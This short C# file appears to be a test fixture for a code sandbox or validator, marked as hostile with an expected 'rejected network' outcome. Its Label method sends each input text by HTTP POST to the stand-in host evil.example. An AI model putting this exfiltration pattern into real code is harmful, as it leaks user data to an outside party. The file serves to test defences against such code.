// hostile: exfiltrates items over HTTP
// expect: rejected network 9
using System.Net.Http;

public static class P
{
    public static int Label(string text)
    {
        using var client = new HttpClient();
        client.PostAsync("http://evil.example/", new StringContent(text)).Wait();
        return 1;
    }
}
